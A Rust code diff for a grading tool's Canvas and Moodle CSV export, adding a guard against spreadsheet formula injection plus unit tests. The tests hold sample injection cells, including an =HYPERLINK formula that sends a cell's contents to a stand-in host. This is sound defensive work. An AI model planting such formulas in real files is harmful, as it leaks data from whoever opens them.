@@ -6,11 +6,13 @@
 //! `idnumber` for Moodle. Without them the column is left empty, never filled with the
 //! bugrank id (a SIS id that is not one could match another student).
 //!
-//! Both files, and the students' links, start with a UTF-8 byte-order mark
-//! ([`EXCEL_BOM`]): Excel on Windows reads a CSV without it in the local code page and
-//! garbles accented names, and both Canvas's and Moodle's importers accept it. The
-//! machine-read files (`scores.csv`, `analysis.json`) have none: they are the command
-//! line's, byte for byte.
+//! Both files, and the students' links, are meant for spreadsheets: they start with a
+//! UTF-8 byte-order mark ([`EXCEL_BOM`]): Excel on Windows reads a CSV without it in the
+//! local code page and garbles accented names, and both Canvas's and Moodle's importers
+//! accept it. And no cell of theirs is read as a formula ([`SpreadsheetCsv`]): a roster
+//! name `=HYPERLINK(...)` is text. The machine-read files (`scores.csv`, `analysis.json`,
+//! the experiment's `summary.csv` and `manual.csv`) have neither: they are the command
+//! line's, byte for byte, and keep every value verbatim.
 
 use grader::Analysis;
 
@@ -19,10 +21,43 @@ use crate::submissions::RosterRow;
 /// The UTF-8 byte-order mark that makes Excel read a CSV as UTF-8.
 pub const EXCEL_BOM: &[u8] = b"\xEF\xBB\xBF";
 
-/// A CSV writer for a file people open in Excel or import into a gradebook: it starts
-/// with [`EXCEL_BOM`].
-pub fn excel_csv() -> csv::Writer<Vec<u8>> {
-    csv::Writer::from_writer(EXCEL_BOM.to_vec())
+/// A CSV file people open in Excel or import into a gradebook: it starts with
+/// [`EXCEL_BOM`], and every cell that a spreadsheet would read as a formula is written as
+/// text ([`as_text`]).
+pub struct SpreadsheetCsv(csv::Writer<Vec<u8>>);
+
+impl Default for SpreadsheetCsv {
+    fn default() -> SpreadsheetCsv {
+        SpreadsheetCsv::new()
+    }
+}
+
+impl SpreadsheetCsv {
+    pub fn new() -> SpreadsheetCsv {
+        SpreadsheetCsv(csv::Writer::from_writer(EXCEL_BOM.to_vec()))
+    }
+
+    /// Writes one row, each cell through [`as_text`].
+    pub fn write_record<I: IntoIterator<Item = T>, T: AsRef<str>>(&mut self, cells: I) -> csv::Result<()> {
+        self.0.write_record(cells.into_iter().map(|cell| as_text(cell.as_ref()).into_owned()))
+    }
+
+    /// The file's bytes.
+    pub fn into_bytes(self) -> csv::Result<Vec<u8>> {
+        self.0.into_inner().map_err(|e| e.into_error().into())
+    }
+}
+
+/// The characters that make a spreadsheet read a cell as a formula when it starts with
+/// one (OWASP's list for CSV injection): `=`, `+`, `-`, `@`, tab and carriage return.
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// `cell` as a spreadsheet shows it but never evaluates it: a cell that starts with one
+/// of [`FORMULA_STARTS`] gets a leading `'` (which Excel, LibreOffice and Google Sheets
+/// take as "text", and do not show). Pitfall: so a negative number becomes text too; no
+/// gradebook column of ours is ever negative.
+pub fn as_text(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(FORMULA_STARTS) { format!("'{cell}").into() } else { cell.into() }
 }
 
 fn extra<'a>(row: Option<&'a RosterRow>, column: &str) -> Option<&'a str> {
@@ -33,7 +68,7 @@ fn extra<'a>(row: Option<&'a RosterRow>, column: &str) -> Option<&'a str> {
 /// ID,Section,<assignment>`, then a `Points Possible` row giving the suite's size, then
 /// each student's points: the suite tests passed.
 pub fn canvas_csv(analysis: &Analysis, roster: &[RosterRow], assignment: &str) -> csv::Result<Vec<u8>> {
-    let mut out = excel_csv();
+    let mut out = SpreadsheetCsv::new();
     out.write_record(["Student", "ID", "SIS User ID", "SIS Login ID", "Section", assignment])?;
     out.write_record(["Points Possible", "", "", "", "", &analysis.scored_tests().to_string()])?;
     for a in &analysis.answers {
@@ -47,7 +82,7 @@ pub fn canvas_csv(analysis: &Analysis, roster: &[RosterRow], assignment: &str) -
             &a.passed.to_string(),
         ])?;
     }
-    out.into_inner().map_err(|e| e.into_error().into())
+    out.into_bytes()
 }
 
 /// How many runs of a kind, in words: "a wrong output on 3 inputs".
@@ -87,11 +122,42 @@ pub fn feedback(analysis: &Analysis, answer: &grader::AnswerResult) -> String {
 /// Moodle's grade import: an identity column (`ID number`), the grade (percent of the
 /// suite passed, one decimal) and the feedback.
 pub fn moodle_csv(analysis: &Analysis, roster: &[RosterRow], assignment: &str) -> csv::Result<Vec<u8>> {
-    let mut out = excel_csv();
+    let mut out = SpreadsheetCsv::new();
     out.write_record(["ID number", assignment, &format!("{assignment} (feedback)")])?;
     for a in &analysis.answers {
         let row = roster.iter().find(|r| r.id == a.id);
         out.write_record([extra(row, "idnumber").unwrap_or(&a.id), &format!("{:.1}", a.percent), &feedback(analysis, a)])?;
     }
-    out.into_inner().map_err(|e| e.into_error().into())
+    out.into_bytes()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn check(cell: &str, written: &str) {
+        let mut out = SpreadsheetCsv::new();
+        out.write_record([cell]).unwrap();
+        let bytes = out.into_bytes().unwrap();
+        assert_eq!(std::str::from_utf8(&bytes[EXCEL_BOM.len()..]).unwrap(), format!("{written}\n"), "the cell {cell:?}");
+    }
+
+    #[test]
+    fn cells_a_spreadsheet_would_evaluate_are_written_as_text() {
+        check(r#"=HYPERLINK("http://x/?"&A1,"click")"#, r#""'=HYPERLINK(""http://x/?""&A1,""click"")""#);
+        check("+1+1", "'+1+1");
+        check("@SUM(1+1)", "'@SUM(1+1)");
+        check("-2+3", "'-2+3");
+        check("\tx", "'\tx");
+        check("\r=1", "\"'\r=1\"");
+    }
+
+    #[test]
+    fn other_cells_are_written_as_they_are() {
+        check("Ada Lovelace", "Ada Lovelace");
+        check("a01", "a01");
+        check("87.5", "87.5");
+        check("", "\"\"");
+        check("x=1", "x=1");
+    }
 }
